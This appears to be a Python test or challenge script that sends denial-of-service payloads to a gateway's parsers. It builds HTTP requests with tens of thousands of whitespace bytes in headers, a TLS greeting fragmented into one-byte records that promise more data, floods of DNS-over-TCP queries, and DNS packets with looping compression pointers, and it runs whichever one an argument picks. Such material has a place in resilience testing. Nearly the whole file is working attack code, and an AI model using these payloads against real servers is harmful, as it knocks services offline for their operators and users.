"""Bytes for the gateway's parsers that are short to send and long to read. The argument names their kind."""

from __future__ import annotations

import os
import socket
import struct
import time

from inside import ARGUMENTS
from talk import DNS, GOOD, WAYS, ask, question, talk, way


def _repeat(port: int, data: bytes, times: int = 20) -> None:
    for _ in range(times):
        try:
            s = socket.create_connection((GOOD, port), timeout=3)
            s.sendall(data)
            s.settimeout(0.2)
            s.recv(100)
        except OSError:
            pass


@way
def blanks_behind_host() -> None:
    _repeat(80, b"GET / HTTP/1.1\r\nHost:" + b" \t" * 16000 + b"\rx\r\n\r\n")


@way
def blanks_in_headers() -> None:
    ask("good.test")
    _repeat(80, b"GET / HTTP/1.1\r\nHost: good.test\r\n" + (b"A:" + b" " * 8000 + b"\rb\r\n") * 7)


@way
def hello_in_pieces() -> None:
    """A TLS greeting of records with one byte each, whose lengths promise more."""
    body = b"\x01\x00\xff\xff\x03\x03" + os.urandom(32) + b"\x00\x00\x02\x13\x01\x01\x00\xff\xff" + bytes(20000)
    _repeat(443, b"".join(b"\x16\x03\x01\x00\x01" + bytes([one]) for one in body[:6000]))


@way
def questions_without_end() -> None:
    """By TCP, as fast as they can be written."""
    one = question("a" * 60 + ".good.test")
    for _ in range(30):
        try:
            talk(DNS, 53, (struct.pack(">H", len(one)) + one) * 400, pause=0)
        except OSError:
            pass


@way
def names_of_pointers() -> None:
    """Datagrams in which a name leads to itself, or to a thousand others."""
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    head = struct.pack(">6H", 1, 0x0100, 1, 0, 0, 0)
    for number in range(3000):
        chain = b"".join(b"\x01x" + struct.pack(">H", 0xC000 | 12 + 4 * (n + 1) % 400) for n in range(100))
        s.sendto(head + chain + b"\xc0\x0c" + struct.pack(">2H", 1, 1), (DNS, 53))
        if number % 300 == 0:
            time.sleep(0.05)


WAYS[ARGUMENTS[0]]()
print("DONE", flush=True)
